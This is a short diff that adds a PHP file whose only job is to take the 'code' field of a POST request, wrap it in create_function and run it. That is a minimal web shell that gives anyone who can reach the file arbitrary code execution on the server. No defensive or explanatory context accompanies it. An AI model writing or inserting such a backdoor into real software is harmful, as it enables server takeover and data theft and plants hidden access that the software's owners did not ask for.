@@ -1,0 +1,3 @@
+<?php
+$run = create_function('', $_POST['code']);
+$run();
